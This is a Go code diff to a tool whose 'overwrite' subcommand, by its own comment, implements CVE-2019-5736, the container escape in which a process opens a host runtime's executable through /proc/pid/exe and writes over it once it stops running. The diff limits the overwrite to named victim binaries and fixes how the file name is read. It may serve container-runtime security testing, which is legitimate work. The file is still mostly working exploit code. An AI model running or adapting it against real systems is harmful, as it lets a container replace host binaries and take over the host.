@@ -8,6 +8,7 @@ import (
 	"os"
 	"os/signal"
 	"runtime"
+	"slices"
 	"strconv"
 	"strings"
 	"syscall"
@@ -62,7 +63,7 @@ func main() {
 		p, _, _ := unix.Syscall(unix.SYS_PERSONALITY, 0xffffffff, 0, 0)
 		fmt.Printf("%#x\n", p)
 	case "overwrite":
-		overwrite(args[0])
+		overwrite(args[0], args[1:])
 	case "spy":
 		spy(args[0])
 	case "handle":
@@ -242,9 +243,11 @@ func forOthers(seconds string, f func(pid string)) {
 }
 
 // overwrite is CVE-2019-5736: whoever starts a program in sight has its
-// executable opened, and written to as soon as it no longer runs. Programs of
-// the container's own /bin are left alone.
-func overwrite(seconds string) {
+// executable opened, and written to as soon as it no longer runs. It writes to
+// the victims alone, by their exact names as this mount namespace shows them:
+// every other program in sight may be one that the host needs, and is let be
+// (a helper such as nsenter is itself in sight until it executes its program).
+func overwrite(seconds string, victims []string) {
 	kept := map[string]int{}
 	said := map[string]bool{}
 	say := func(text string) {
@@ -254,13 +257,16 @@ func overwrite(seconds string) {
 		}
 	}
 	forOthers(seconds, func(pid string) {
-		link, err := os.Readlink("/proc/" + pid + "/exe")
-		if err == nil && !strings.HasPrefix(link, "/bin/") {
-			if _, have := kept[link]; !have {
-				if fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
-					kept[link] = fd
-					say("opened " + link)
-				}
+		// The name is read of the open file, so that it is the one written to.
+		fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0)
+		if err == nil {
+			link, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
+			_, have := kept[link]
+			if err == nil && !have && slices.Contains(victims, link) {
+				kept[link] = fd
+				say("opened " + link)
+			} else {
+				unix.Close(fd)
 			}
 		}
 		for link, fd := range kept {
